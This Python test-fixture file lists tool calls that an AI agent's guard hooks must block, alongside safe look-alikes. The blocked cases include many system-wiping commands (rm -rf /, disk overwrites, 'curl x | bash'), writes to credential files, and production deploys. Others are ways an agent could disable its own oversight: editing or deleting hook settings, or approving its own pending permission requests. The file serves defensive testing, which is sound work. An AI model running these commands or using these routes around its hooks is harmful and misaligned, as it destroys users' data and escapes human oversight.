"""Tool calls the bundled guards must deny and look-alikes they must allow, shared by the
guards' own tests and hookkit's (which checks the same cases through the kit)."""

from __future__ import annotations

from typing import Any


def sh(command: Any) -> dict[str, Any]:
    return {"command": command}


DANGEROUS = [
    # nested shells
    "bash -c \"rm -rf /\"", "sh -c 'rm -rf /'", "zsh -c 'rm -rf ~'", "dash -c 'rm -rf /'",
    "bash -lc 'cd /tmp && rm -rf /'", "sh -c \"sh -c 'rm -rf /'\"",
    "env FOO=1 sh -c 'rm -rf /'", "env -i /bin/sh -c 'rm -rf /'", "su -c 'rm -rf /'",
    "eval 'rm -rf /'", "bash -c 'eval \"rm -rf /\"'", "watch -n 1 rm -rf /",
    # prefixes
    "sudo rm -rf /", "sudo -u root -- rm -rf /", "nice -n 10 rm -rf /", "timeout 5 rm -rf /",
    "nohup rm -rf / &", "command rm -rf /", "exec rm -rf /", "busybox rm -rf /",
    # xargs fed /
    "echo / | xargs rm -rf", "printf '/\\n' | xargs -I{} rm -rf {}", "xargs rm -rf <<< /",
    "ls / | xargs rm -rf", "find / -name x | xargs rm -rf",
    # substitutions, chains, newlines, grouping
    "echo $(rm -rf /)", "echo `rm -rf ~`", "ls; rm -rf /", "ls && rm -rf /",
    "false || rm -rf /", "ls | rm -rf /", "ls\nrm -rf /", "ls\n  rm -rf ~/",
    "if true; then rm -rf /; fi", "( rm -rf / )", "{ rm -rf /; }",
    # spellings of rm and of its target
    "r''m -rf /", "\\rm -rf /", "/bin/rm -rf /", "\"rm\" -rf /", "/bin/r? -rf /",
    "rm -rf \"/\"", "rm -rf /.", "rm -rf //", "rm -rf /usr/..", "rm -rf ~/", "rm -rf ${HOME}",
    "rm -rf \"$HOME\"/", "rm -r --no-preserve-root /", "rm --rec -f /", "rm -rf $'\\x2f'",
    "rm -rf /{usr,etc}", "rm -rf \"/",
    # find
    "find / -delete", "find ~ -name '*.tmp' -delete", "find / -exec rm -rf {} +",
    "find $HOME -type f -exec rm {} \\;", "find /usr -delete",
    # interpreter one-liners
    "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
    "python -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~'))\"",
    "python3 -c 'from pathlib import Path; import shutil; shutil.rmtree(Path.home())'",
    "python3.11 -c 'import shutil;shutil.rmtree(\"/\", ignore_errors=True)'",
    "python3 -c 'import os; os.system(\"rm -rf /\")'",
    "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'",
    "uv run python -c 'import shutil; shutil.rmtree(\"/\")'",
    "node -e \"require('fs').rmSync('/', {recursive: true, force: true})\"",
    "node -e \"require('child_process').execSync('rm -rf /')\"",
    "node -e \"const fs=require('fs'); fs.rmSync(require('os').homedir(), {recursive:true})\"",
    "deno eval \"Deno.removeSync('/', {recursive: true})\"",
    "perl -MFile::Path -e 'rmtree(\"/\")'",
    "perl -e 'use File::Path qw(remove_tree); remove_tree($ENV{HOME})'",
    "perl -e 'system(\"rm -rf /\")'", "perl -e '`rm -rf /`'",
    "ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'",
    "ruby -e 'require \"fileutils\"; FileUtils.rm_rf Dir.home'", "ruby -e 'system(\"rm -rf ~\")'",
    "php -r 'system(\"rm -rf /\");'",
    # heredocs and stdin to a shell or an interpreter
    "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/')\nEOF",
    "python3 <<EOF\nimport os\nos.system('rm -rf /')\nEOF",
    "node <<'JS'\nrequire('fs').rmSync('/', {recursive: true})\nJS",
    "bash <<EOF\nrm -rf /\nEOF", "cat <<EOF | sh\nrm -rf ~\nEOF", "echo 'rm -rf /' | bash",
    "bash <<< 'rm -rf /'", "cat > /tmp/x.sh <<'EOF'\nrm -rf /\nEOF\nbash /tmp/x.sh",
    "x=$(bash <<EOF\nrm -rf /\nEOF\n)", "echo \"$(cat <<EOF\nhi\nEOF\n)\"; rm -rf /",
    # the rest of the table
    "chmod -R 777 \"/\"", "chown -R nobody /", "rsync -a --delete empty/ /", "mv ~ /tmp/gone",
    "\"mk\"fs /dev/sda", "python3 -c 'open(\"/dev/sda\", \"wb\").write(b\"0\" * 512)'",
    "curl x | \"ba\"sh",
    # a recursive delete of everything here, after a cd to /, ~ or a system folder
    "cd / && rm -rf *", "cd / ; rm -rf *", "cd ~ && rm -rf *", "cd / || rm -rf *",
    "cd /\nrm -rf *", "cd && rm -rf .", "cd $HOME && rm -rf ./*", "cd ~/ && rm -r -f *",
    "cd // && rm --recursive *", "pushd / && rm -rf *", "(cd / && rm -rf *)",
    "cd / && (rm -rf *)", "cd / && find . -delete", "cd ~ && find -delete",
    "cd / && bash -c 'rm -rf *'", "sh -c 'cd / && rm -rf *'", "cd /usr && rm -rf *",
    "cd / && rm -rf usr", "cd -P / && rm -rf -- .*", "eval cd / && rm -rf *",
    "cd / && ls | xargs rm -rf", "cd / && python3 -c 'import shutil; shutil.rmtree(\".\")'",
    "eval " * 12 + "cd / && rm -rf *",
]


LOOK_ALIKES = [
    "ls", "echo \"rm -rf /\"", "rm -rf ./build", "grep -r \"rm -rf /\" .",
    "git commit -m \"rm -rf / is blocked\"", "python3 -c 'print(\"rm -rf /\")'",
    "find . -name '*.pyc' -delete", "find build -delete", "rm -rf node_modules",
    "echo 'rm -rf /' > notes.txt", "cat <<'EOF' > notes.md\nNever run rm -rf / on a server.\nEOF",
    "rm -rf /tmp/build", "rm -rf ~/proj/build", "find /tmp/x -delete",
    "find . -type d -name __pycache__ -exec rm -rf {} +", "rm -rf \"$BUILD_DIR\"",
    "python3 -c 'import shutil; shutil.rmtree(\"build\")'",
    "node -e \"require('fs').rmSync('dist', {recursive: true})\"",
    "python3 -c 'import os; os.system(\"echo rm -rf /\")'",
    "python3 -c 'import subprocess; subprocess.run([\"echo\", \"rm -rf /\"])'",
    "ruby -e 'puts \"rm -rf /\"'", "perl -e 'print \"rm -rf /\\n\"'", "bash -c 'echo rm -rf /'",
    "sh -c 'ls /'", "echo / | xargs ls", "# rm -rf /\nls", "ls # don't rm -rf /",
    "chmod -R u+w .", "rsync -a --delete src/ dest/", "mv build old-build",
    "git rm -r --cached .", "make clean && rm -rf dist", "docker run --rm alpine ls /",
    # everything in a folder the command moved to that is not / , ~ or a system folder
    "cd /tmp/build && rm -rf *", "cd build && rm -rf ./*", "cd ~/proj && rm -rf *",
    "cd $HOME/proj && rm -rf ./*", "cd / && rm -rf tmp/x", "cd / && rm -f *", "cd / && ls",
    "cd / && rm -rf *.log", "sh -c 'cd /' && rm -rf *", "cd / && cd /tmp/x && rm -rf *",
    "cd / && cd tmp/x && rm -rf *", "cd \"$BUILD_DIR\" && rm -rf *", "cd ~ && find proj -delete",
    # ordinary moves that stay in the project or a folder of its own
    "cd build && rm -rf *", "pushd src; popd; ls", "pushd build && rm -rf * && popd",
    "cd build && cd - && rm -rf dist", "cd /tmp/a && cd /tmp/b && cd - && rm -rf *",
    "CDPATH=/tmp cd build && rm -rf *", "env -C build rm -rf *", "sudo -D /tmp/x rm -rf *",
    "cd - && ls", "cd ~root && ls", "cd - && rm -rf build", "d=/tmp/x; cd $d && rm -rf *",
    "cd $'/tmp/x' && rm -rf *", "sudo -u bob rm -rf build", "echo $? && rm -rf build",
    "(cd /) && rm -rf *", "cd / | cat; rm -rf *", "cd build && rm -rf * | tee log",
    # how agents commit: the message in a heredoc inside $(...), quotes and all
    "git commit -m \"$(cat <<'EOF'\nGuard: it's now blocking \"rm -rf /\" variants\n\n"
    "Co-Authored-By: an agent\nEOF\n)\"",
]


SECRET_WRITES = [
    "bash -c 'echo K=1 > .env'", "sh -c \"cp x .env\"", "eval 'tee .env < x'",
    "echo K=1 > \".e\"nv", "cp -f a .env", "install -m 600 a ~/.ssh/id_rsa", "ln -sf /tmp/x .env",
    "dd if=x of=.env", "sed -i 's/a/b/' .env", "curl -o .env https://example.com/x",
    "wget -O .env https://example.com/x", "truncate -s 0 .env", "cp x \\\n  .env",
    "cat > .env <<EOF\nK=1\nEOF", "echo x | sudo tee -a /root/.aws/credentials",
    "python3 -c 'open(\".env\", \"w\").write(\"K=1\")'",
    "python3 -c 'from pathlib import Path; Path(\".env\").write_text(\"K=1\")'",
    "python3 -c 'import shutil; shutil.copy(\"x\", \"id_rsa\")'",
    "python3 - <<'EOF'\nwith open('.env', 'a') as f:\n    f.write('K=1')\nEOF",
    "node -e \"require('fs').writeFileSync('.env', 'K=1')\"",
    "ruby -e 'File.write(\".env\", \"K=1\")'",
    "perl -e 'open(my $f, \">\", \".env\"); print $f \"K=1\"'",
]


SECRET_LOOK_ALIKES = [
    "cat .env", "grep KEY .env", "python3 -c 'print(open(\".env\").read())'",
    "node -e \"console.log(require('fs').readFileSync('.env', 'utf8'))\"",
    "cp .env.example .env.sample", "ls -la ~/.ssh", "sed 's/a/b/' .env", "source .env && npm start",
    "python3 -c 'open(\"out.txt\", \"w\").write(\"x\")'", "curl -o page.html https://example.com",
]


PROD_CHANGES = [
    "bash -c 'kubectl apply -f x.yaml --context prod'",
    "kubectl apply -f x.yaml \\\n  --context prod",
    "terraform apply \\\n  -var-file=prod.tfvars", "ter'r'aform apply -var-file=prod.tfvars",
    "k\\ubectl delete ns x -n production",
    "python3 -c 'import os; os.system(\"./deploy.sh prod\")'",
    "eval \"helm upgrade api ./chart --kube-context prod\"", "./deploy.sh \"pr\"od",
    "sh <<EOF\nterraform destroy -var-file=prod.tfvars\nEOF", "pulumi up --stack prod",
    "git push origin HEAD:refs/heads/prod",
    "kubectl -n staging get pods; kubectl delete pod x -n prod",
]


PROD_LOOK_ALIKES = [
    "kubectl get pods -n production", "./deploy.sh staging", "git push origin main",
    "terraform plan -var-file=prod.tfvars", "helm template x -f values-prod.yaml",
    "grep -r production README.md",
]


DENIED: list[tuple[str, Any]] = [
    # file tools, canonical and host-native
    ("WriteFile", {"path": ".agents/hooks/evil/HOOK.md", "content": "x"}),
    ("WriteFile", {"path": "~/.config/agents/hooks/x/scripts/run", "content": "x"}),
    ("EditFile", {"path": "~/.claude/settings.json",
                  "edits": [{"old_string": "a", "new_string": "b"}]}),
    ("Write", {"file_path": ".claude/settings.json", "content": "{}"}),
    ("Write", {"file_path": ".claude/settings.local.json", "content": "{}"}),
    ("Edit", {"file_path": "src/../.codex/hooks.json", "old_string": "a", "new_string": "b"}),
    ("MultiEdit", {"file_path": "./.gemini/settings.json", "edits": []}),
    ("write_file", {"file_path": "$HOME/.cursor/hooks.json", "content": "{}"}),
    ("replace", {"file_path": ".github/hooks/mcp-hooks.json", "old_string": "a",
                 "new_string": "b"}),
    ("create", {"path": "~/.copilot/hooks/x.json", "file_text": "{}"}),
    ("StrReplaceFile", {"path": "~/.kimi/config.toml", "edit": {"old": "a", "new": "b"}}),
    ("WriteFile", {"path": "~/.codex/config.toml", "content": ""}),
    ("WriteFile", {"path": "~/.local/state/mcp-hooks/trust.json", "content": "{}"}),
    ("WriteFile", {"path": "~/.config/mcp-hooks/forward.sh", "content": ""}),
    # the control layer: a git-ignored hooks.local.yaml is the user's own layer
    ("WriteFile", {"path": ".ahp/hooks.local.yaml", "content": "hooks: {}"}),
    ("Write", {"file_path": "~/.ahp/hooks.yaml", "content": "hooks: {}"}),
    ("Shell", sh("printf 'hooks: {}' > .ahp/hooks.local.yaml")),
    ("Shell", sh("rm -rf .ahp")),
    ("mcp__fs__move_file", {"source": "src/a.py", "destination": ".agents/hooks/a.py"}),
    ("mcp__fs__delete_file", {"paths": ["src/x", "../project/.agents/hooks/guard"]}),
    ("mcp__fs__move_file", {"source": ".agents", "destination": "/tmp/gone"}),
    ("str_replace_based_edit_tool", {"command": "create", "path": ".agents/hooks/x/HOOK.md"}),
    ("ApplyPatch", {"patch": "*** Begin Patch\n*** Update File: .claude/settings.json\n@@\n-a\n+b\n"
                             "*** End Patch\n"}),
    ("apply_patch", {"command": "*** Begin Patch\n*** Add File: .agents/hooks/x/HOOK.md\n+x\n"}),
    ("WriteFile", {"path": "file://" + "/HOME/.claude/settings.json", "content": ""}),
    # shell: redirections, verbs, compound forms
    ("Shell", sh("echo '{}' > ~/.claude/settings.json")),
    ("Shell", sh("echo x >> .agents/hooks/guard/HOOK.md")),
    ("Shell", sh("cat a 2> .codex/hooks.json")),
    ("Shell", sh("make &> ~/.local/state/mcp-hooks/events.jsonl")),
    ("Bash", sh("rm -rf .agents/hooks")),
    ("Bash", sh("rm -rf .agents")),
    ("Bash", sh("rm -rf .agents/*")),
    ("Bash", sh("rmdir .agents/hooks/guard")),
    ("Bash", sh("mv .agents/hooks /tmp/x")),
    ("Bash", sh("mv /tmp/evil ~/.config/agents/hooks/evil")),
    ("Bash", sh("cp /tmp/settings.json .claude/")),
    ("Bash", sh("cp -r /tmp/evil -t .agents/hooks")),
    ("Bash", sh("install -m 644 x ~/.cursor/hooks.json")),
    ("Bash", sh("sed -i 's/a/b/' .gemini/settings.json")),
    ("Bash", sh("sed -i.bak -e 's/a/b/' ~/.claude/settings.json")),
    ("Bash", sh("perl -pi -e 's/a/b/' .codex/hooks.json")),
    ("Bash", sh("echo x | tee -a .github/hooks/mcp-hooks.json")),
    ("Bash", sh("ln -sf /tmp/evil .agents/hooks/guard")),
    ("Bash", sh("chmod 000 .agents/hooks")),
    ("Bash", sh("chown nobody ~/.claude/settings.json")),
    ("Bash", sh("truncate -s 0 ~/.local/state/mcp-hooks/trust.json")),
    ("Bash", sh("touch .agents/hooks/new/HOOK.md")),
    ("Bash", sh("mkdir -p .agents/hooks/evil")),
    ("Bash", sh("rsync -a /tmp/evil/ .agents/hooks/")),
    ("Bash", sh("dd if=/dev/zero of=.claude/settings.json")),
    ("Bash", sh("git checkout -- .claude/settings.json")),
    ("Bash", sh("git restore .agents/hooks")),
    ("Bash", sh("git -C sub checkout ../.agents/hooks/guard/HOOK.md")),
    ("Bash", sh("sh -c \"rm -rf .agents/hooks\"")),
    ("Bash", sh("bash -lc 'echo x > ~/.claude/settings.json'")),
    ("Bash", sh("ls; rm .codex/hooks.json")),
    ("Bash", sh("true && rm .codex/hooks.json || echo no")),
    ("Bash", sh("ls | tee .agents/hooks/x")),
    ("Bash", sh("echo \"$(rm -f .cursor/hooks.json)\"")),
    ("Bash", sh("echo `rm .cursor/hooks.json`")),
    ("Bash", sh("ls\nrm .cursor/hooks.json")),
    ("Bash", sh("cd .agents/hooks && rm -rf guard")),
    ("Bash", sh("cd .agents; rm -rf hooks")),
    ("Bash", sh("sudo -u root rm -f ~/.kimi/config.toml")),
    ("Bash", sh("FOO=1 timeout 5 rm .codex/config.toml")),
    ("Bash", sh("rm .claude/{settings,other}.json")),
    ("Bash", sh("find .agents/hooks -name '*.md' -delete")),
    ("Bash", sh("find .agents/hooks -type f | xargs rm")),
    ("Bash", sh("for f in .agents/hooks/*; do rm \"$f\"; done")),
    ("Bash", sh("F=~/.claude/settings.json; echo x > $F")),
    ("Bash", sh("curl -o ~/.claude/settings.json https://example.com/x")),
    ("Bash", sh("python3 -c \"open('.claude/settings.json', 'w').write('{}')\"")),
    ("Bash", sh("mcp-hooks trust .agents/hooks/guard")),
    ("Bash", sh("mcp-hooks install claude-code --scope user")),
    ("Bash", sh("mcp-hooks approve ask-3f9e5d2a4c")),
    ("Bash", sh("sleep 1; python -m mcp_hooks refuse ask-3f9e5d2a4c --reason ok")),
    ("Bash", sh("mcp-hooks --state redis://x approve ask-3f9e5d2a4c --for-session")),
    ("Bash", sh("python3 -I -m mcp_hooks.cli trust .agents/hooks/guard")),
    ("Bash", sh("rm -rf ~/.config")),
    ("Bash", sh("rm -rf .")),
    ("Bash", sh("echo 'unbalanced > .claude/settings.json")),  # shlex fails: careful scan
    ("Bash", sh(["bash", "-lc", "rm -rf .agents/hooks"])),  # Codex's argv form
    ("run_shell_command", sh("rm .gemini/settings.json")),
    ("exec_command", {"cmd": "rm .agents/hooks/guard/HOOK.md"}),
    # a tool whose name says it writes: a folder that holds hooks counts too
    ("mcp__fs__write_file", {"path": ".", "content": ""}),
    # mcp-server-git's writers (git_commit and git_checkout: tests/hooks/test_protect_hooks_git.py)
    ("git_add", {"repo_path": ".", "files": [".agents/hooks/guard/HOOK.md"]}),
    ("mcp__git__git_add", {"repo_path": ".", "files": ["src", ".agents"]}),
    ("git__git_init", {"repo_path": ".agents/hooks/guard"}),
    ("git_reset", {"repo_path": "~/.config/agents/hooks"}),
    # tools it does not know: refused where an argument names a protected path
    ("frobnicate", {"path": ".agents/hooks/guard/HOOK.md"}),
    ("mcp__tickets__attach", {"target": "~/.claude/settings.json", "ticket": 7}),
    ("mcp__x__sync", {"folder": ".agents", "options": {"nested": ["~/.codex/hooks.json"]}}),
    ("", {"path": ".agents/hooks/x"}),
    # hosts 7, 8, 9: Qwen Code's settings, Cline's hook scripts, OpenCode's plugins
    ("write_file", {"file_path": ".qwen/settings.json", "content": "{}"}),
    ("edit", {"file_path": "~/.qwen/settings.json", "old_string": "a", "new_string": "b"}),
    ("Shell", sh("rm ~/.cline/hooks/PreToolUse")),
    ("Shell", sh("ls\nrm -rf .clinerules/hooks")),
    ("editor", {"path": ".clinerules/hooks/PreToolUse", "old_text": "a", "new_text": "b"}),
    ("write", {"filePath": ".opencode/plugins/mcp-hooks.js", "content": ""}),
    ("Shell", sh("rm -rf .opencode")),
    ("Shell", sh("echo x > ~/.config/opencode/plugins/evil.js")),
]


ALLOWED: list[tuple[str, Any]] = [
    ("Shell", sh("cat ~/.claude/settings.json")),
    ("Shell", sh("ls .agents/hooks")),
    ("Shell", sh("cat .ahp/hooks.yaml ~/.ahp/hooks.yaml")),
    ("Shell", sh("ls -la ~/.config/agents/hooks && grep -r tool .agents/hooks")),
    ("Shell", sh("echo \".agents/hooks\"")),
    ("Shell", sh("echo .agents/hooks > notes.txt")),
    ("Shell", sh("cat .claude/settings.json > /tmp/backup.json")),
    ("Shell", sh("cp ~/.claude/settings.json /tmp/settings.json")),
    ("Shell", sh("cp -r .agents/hooks/guard /tmp/guard-copy")),
    ("Shell", sh("git diff .claude/settings.json")),
    ("Shell", sh("sed 's/a/b/' .gemini/settings.json")),
    ("Shell", sh("rm -rf build dist && mkdir -p .github/workflows")),
    ("Shell", sh("mcp-hooks list && mcp-hooks install claude-code --dry-run")),
    ("Shell", sh("mcp-hooks pending --json")),
    ("Shell", sh("python -m pytest tests/test_hooks.py 2>/dev/null")),
    ("Shell", sh("echo 'unbalanced")),
    ("WriteFile", {"path": "src/hooks.py", "content": "print('.agents/hooks')"}),
    ("WriteFile", {"path": "notes.md", "content": ".claude/settings.json"}),
    ("EditFile", {"path": "docs/agents-hooks.md", "edits": [{"old_string": "a",
                                                             "new_string": "b"}]}),
    ("Write", {"file_path": ".github/workflows/ci.yml", "content": "on: push"}),
    ("Write", {"file_path": ".claude/agents/reviewer.md", "content": "x"}),
    ("ReadFile", {"path": "~/.claude/settings.json"}),
    ("Read", {"file_path": ".agents/hooks/guard/HOOK.md"}),
    ("ListDir", {"path": ".agents/hooks"}),
    ("Grep", {"pattern": "x", "path": ".agents/hooks"}),
    ("mcp__fs__read_file", {"path": ".claude/settings.json"}),
    ("str_replace_based_edit_tool", {"command": "view", "path": ".agents/hooks/guard/HOOK.md"}),
    ("WebFetch", {"url": "https://example.com/.agents/hooks"}),
    ("Agent", {"prompt": "rm -rf .agents/hooks"}),
    # mcp-server-git's readers, on the repository that holds the hooks folder
    *[(tool, {"repo_path": ".", "target": "HEAD", "revision": "HEAD", "branch_type": "local"})
      for tool in ("git_status", "mcp__git__git_log", "git__git_diff", "git_diff_staged",
                   "git_diff_unstaged", "git_show", "git_branch")],
    ("git_add", {"repo_path": ".", "files": ["."]}),
    ("git_create_branch", {"repo_path": ".", "branch_name": "x"}),
    ("git_reset", {"repo_path": "."}),
    # @modelcontextprotocol/server-filesystem's readers, and mcp-server-fetch
    *[(f"mcp__fs__{tool}", {"path": ".agents/hooks/guard", "paths": [".agents/hooks/guard"]})
      for tool in ("read_text_file", "read_media_file", "read_multiple_files", "list_directory",
                   "list_directory_with_sizes", "directory_tree", "search_files",
                   "get_file_info", "list_allowed_directories")],
    ("fetch", {"url": "https://example.com/.agents/hooks/x", "max_length": 5000}),
    # tools it does not know, naming no protected path (the project holds one; it is not one)
    ("frobnicate", {"path": "src/a.py", "folder": "."}),
    ("mcp__tickets__attach", {"target": "/tmp/x", "repo": "."}),
]


